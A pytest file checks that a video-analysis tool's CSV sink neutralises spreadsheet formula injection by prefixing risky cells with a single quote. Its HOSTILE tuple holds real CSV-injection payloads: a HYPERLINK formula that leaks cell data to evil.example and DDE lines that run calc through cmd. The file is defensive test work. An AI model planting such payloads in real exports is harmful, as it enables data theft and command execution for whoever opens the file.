"""CSV cells a spreadsheet would run as formulas (OWASP's CSV injection: text that starts with =, +, -, @,
a tab or a carriage return) start with a single quote; numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest
from onnx_models import colour_model, colour_video

from avfuse.stream.cli.main import main
from avfuse.stream.run.sinks.csv import CsvSink

HOSTILE = ('=HYPERLINK("http://evil.example/?x="&A1,"red")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0")


def _rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_labels_and_file_names_from_a_run_are_never_formulas(tmp_path, monkeypatch, capsys):
    model = colour_model(tmp_path / "hostile.onnx", labels=HOSTILE)
    monkeypatch.chdir(tmp_path)
    colour_video(tmp_path / "=1+2.mp4", ["red", "green", "blue"], audio=False)
    assert main(["run", str(model), "=1+2.mp4", "-o", "out", "--sink", "csv", "--no-cache"]) == 0
    (written,) = (tmp_path / "out").glob("*.csv")
    rows = [r for r in _rows(written.read_text()) if r["type"] == "segment"]
    assert [r["label"] for r in rows] == ["'" + label for label in HOSTILE]
    assert {r["source"] for r in rows} == {"'=1+2.mp4"}
    assert [float(r["start"]) for r in rows] == [0.0, 1.0, 2.0] and all(float(r["score"]) > 0.99 for r in rows)
    assert rows[0]["top"].startswith('[["=HYPERLINK(')  # JSON text starting with [ is no formula
    capsys.readouterr()


@pytest.mark.parametrize(("value", "cell"), [
    ("=1+2", "'=1+2"), ("+41", "+41"), ("-", "'-"), ("-x", "'-x"), ("@A1", "'@A1"), ("\tA1", "'\tA1"),
    ("\r=1", "'\r=1"), ("-2+3", "'-2+3"), ("-1e5", "-1e5"), ("-0.25", "-0.25"), ("red", "red"),
    ("a=b", "a=b"), ("'=1", "'=1"), ("", ""), (-0.25, "-0.25"), (-3, "-3"),
    ("x\r=1+2", "x\r=1+2"),  # one cell, not a line break and a new row starting with a formula
])
def test_each_cell_as_a_spreadsheet_reads_it(value, cell):
    buf = io.StringIO()
    sink = CsvSink(None, stream=buf)
    sink.open_source("s")
    sink.write("s", {"type": "segment", "source": "s", "index": 0, "label": value, "score": value,
                     "error": value})
    sink.close()
    (row,) = _rows(buf.getvalue())
    assert row["label"] == row["error"] == cell
    assert row["score"] == cell
    if not isinstance(value, str):
        assert float(row["score"]) == value  # a number is written as the number, unquoted
